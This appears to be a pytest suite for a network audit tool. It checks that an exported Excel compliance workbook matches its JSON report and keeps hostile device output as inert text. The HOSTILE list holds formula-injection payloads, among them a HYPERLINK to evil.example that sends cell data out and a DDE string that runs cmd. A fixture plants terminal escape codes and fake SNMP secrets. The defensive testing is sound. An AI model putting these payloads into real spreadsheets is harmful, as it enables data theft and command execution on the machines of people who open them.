"""The evaluator's record (netops audit --xlsx): the workbook read back with openpyxl agrees with the
JSON report it was rendered from, and hostile evidence stays text — never a formula, never a secret."""
from __future__ import annotations

import json
import shutil
from collections import Counter
from io import BytesIO
from pathlib import Path

import pytest
from conftest import clean_env
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from jinbao_netops import escape, inventory
from jinbao_netops.errors import DeviceError
from jinbao_netops.security import records
from jinbao_netops.security.audit import run_audit
from jinbao_netops.security.catalogue import FAIL, PARTIAL, VERDICT_EN, VERDICTS, load_catalogue
from jinbao_netops.security.workbook import GAPS, NOT_ASSESSED, RECORD, SUMMARY, render

FIX = Path(__file__).parent / "fixtures/security"
INV = inventory.load(inventory.DEFAULT_INVENTORY)
NO_RECORDS = records.from_catalogue({"assets": {}}, [], "backup catalogue (none)")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tcell", "\rcell"]


def runner(down: dict[str, str]):
    """Servers answer the fresh lab fixture, routers the fresh lab config and the planted-secret host;
    ``down`` hosts fail with the (hostile) error text given."""
    host = (FIX / "frr-host-fresh.txt").read_text().replace("createUser netops SHA *** AES ***",
                                                            'createUser netops SHA "PLANTED-AUTH" AES "PLANTED-PRIV"')

    def run(device, command, stdin=None):
        if device in down:
            raise DeviceError(device, down[device])
        if INV.devices[device].platform_info.kind == "server":
            return (FIX / "debian12-lab-fresh.txt").read_text().replace("pool 2.debian.pool.ntp.org", "pool \x1b[31mevil\x07")
        return host if stdin is not None else (FIX / "frr-lab-fresh.cfg").read_text()
    return run


@pytest.fixture(scope="module")
def audited():
    down = {"panyu-db1": HOSTILE[0], "huadu-r1": HOSTILE[1]}
    rep = run_audit(INV, "guangdong", run=runner(down), parallel=4, rec=NO_RECORDS)
    return rep, load_workbook(BytesIO(render(rep, load_catalogue())))


def rows(ws) -> list[dict]:
    head = [c.value for c in ws[1]]
    return [dict(zip(head, (c.value for c in r))) for r in ws.iter_rows(min_row=2)]


def test_record_sheet_counts_agree_with_the_json(audited):
    rep, wb = audited
    assert wb.sheetnames == [RECORD, GAPS, SUMMARY]
    rec = rows(wb[RECORD])
    got = Counter(r["符合情况 Verdict"] for r in rec)
    for v in VERDICTS:
        assert got.pop(f"{v} {VERDICT_EN[v]}", 0) == rep["summary"]["verdicts"][v], v
    assert got == {NOT_ASSESSED: len(rep["summary"]["unreachable"])} and rep["summary"]["unreachable"]
    assert len(rec) == sum(len(h["results"]) or 1 for h in rep["hosts"])
    one = next(r for r in rec if r["测评对象 Object"].startswith("gd-db1") or "(gd-db1," in r["测评对象 Object"]
               and r["测评项编号 Test item"] == "L3-CES1-01")
    assert "安全计算环境-身份鉴别" in one["测评指标 Requirement"] and "command" in one["测评方法 Method"]


def test_gap_sheet_lists_every_shortfall_with_its_remediation(audited):
    rep, wb = audited
    gaps = rows(wb[GAPS])
    want = [(h["host"], r["id"]) for h in rep["hosts"] for r in h["results"] if r["verdict"] in (FAIL, PARTIAL)]
    assert len(gaps) == len(want) > 0
    cat = load_catalogue().by_id()
    for g, (host, cid) in zip(gaps, want):
        plat = INV.devices[host].platform
        assert f"({host}," in g["测评对象 Object"] and g["安全控制点 Clause"] == cat[cid].clause
        assert g["整改措施 Remediation"] == cat[cid].fix_for(plat) and g["未满足项 Unmet"].startswith("✘")
    frr = next(g for g, (h, cid) in zip(gaps, want) if cid == "net-snmpv3")
    assert "snmpd.conf" in frr["整改措施 Remediation"]  # the router's own remediation, not VRP's


def test_summary_sheet_per_level_agrees_with_the_rollup(audited):
    rep, wb = audited
    summary = [r for r in rows(wb[SUMMARY]) if isinstance(r["测评对象 Objects"], int)]
    by_level = {lv["level"]: lv for lv in rep["rollup"]["levels"]}
    assert [r["层级 Level"] for r in summary] == ["省 province", "灾备 DR", "市 city", "县 county", "全部 all"]  # senior first
    for r, lv in zip(summary, [by_level[lv] for lv in ("province", "dr", "city", "county")]):
        assert r["测评对象 Objects"] == lv["hosts"] and r["未测评 Unreachable"] == lv["unreachable"]
        assert [r[f"{v} {VERDICT_EN[v]}"] for v in VERDICTS] == [lv["verdicts"][v] for v in VERDICTS]
    assert summary[-1]["测评对象 Objects"] == rep["summary"]["hosts"]


def test_hostile_evidence_stays_text_and_secrets_stay_out(audited):
    rep, wb = audited
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in cells)  # no formula anywhere
    errors = {c.value: c for c in cells if c.value in HOSTILE[:2]}
    assert set(errors) == set(HOSTILE[:2]) and all(c.quotePrefix for c in errors.values())
    text = "\n".join(str(c.value) for c in cells)
    assert "PLANTED" not in text and "\x1b" not in text and "\x07" not in text and "[31mevil" in text


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_prefix_is_written_as_text(value):
    rep = run_audit(INV, "panyu-db1", run=runner({"panyu-db1": value}), rec=NO_RECORDS)
    ws = load_workbook(BytesIO(render(rep, load_catalogue())))[RECORD]
    cell = ws.cell(row=2, column=10)
    # (XML reads a carriage return back as a line feed)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)


def test_cli_writes_the_workbook_atomically_and_names_it(netops, tmp_path: Path):
    cfgs = tmp_path / "configs"
    cfgs.mkdir()
    shutil.copy(FIX / "frr-lab-fresh.cfg", cfgs / "huadu-r1.cfg")
    shutil.copy(FIX / "frr-host-fresh.txt", cfgs / "huadu-r1.host")
    env = clean_env(NETOPS_BACKUP_STATE=str(tmp_path / "state"))
    r = netops("audit", "--scope", "huadu-r1", "--configs", str(cfgs), "--xlsx", str(tmp_path / "a.xlsx"), "--json", env=env)
    assert r.returncode == 1, r.stderr
    rep = json.loads(r.stdout)
    wb = load_workbook(tmp_path / "a.xlsx")
    assert len(rows(wb[GAPS])) == rep["summary"]["verdicts"][FAIL] + rep["summary"]["verdicts"][PARTIAL]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".a.xlsx")] == []  # no temporary left behind
    r = netops("audit", "--scope", "huadu-r1", "--configs", str(cfgs), "--xlsx", str(tmp_path / "a.xlsx"), env=env)
    assert str(tmp_path / "a.xlsx") in r.stdout.replace("\n", "")
    r = netops("audit", "--scope", "huadu-r1", "--xlsx", str(tmp_path / "nodir" / "a.xlsx"), env=env)
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "--xlsx" in r.stderr


@settings(max_examples=60, deadline=None)
@given(st.text(st.characters(codec="utf-8"), max_size=60) | st.sampled_from(HOSTILE))
def test_any_text_reads_back_as_the_same_text(text):
    """Whatever a host or device sends, the cell reads back as text: the same characters, less those
    XML cannot carry (spaces instead), never a formula."""
    rep = run_audit(INV, "panyu-db1", run=runner({"panyu-db1": text}), rec=NO_RECORDS)
    cell = load_workbook(BytesIO(render(rep, load_catalogue())))[RECORD].cell(row=2, column=10)
    want, formula_like = escape.cell(text)
    assert (cell.data_type == "s" or (want == "" and cell.value is None)) and bool(cell.quotePrefix) == formula_like
    assert (cell.value or "") == want.replace("\r\n", "\n").replace("\r", "\n")
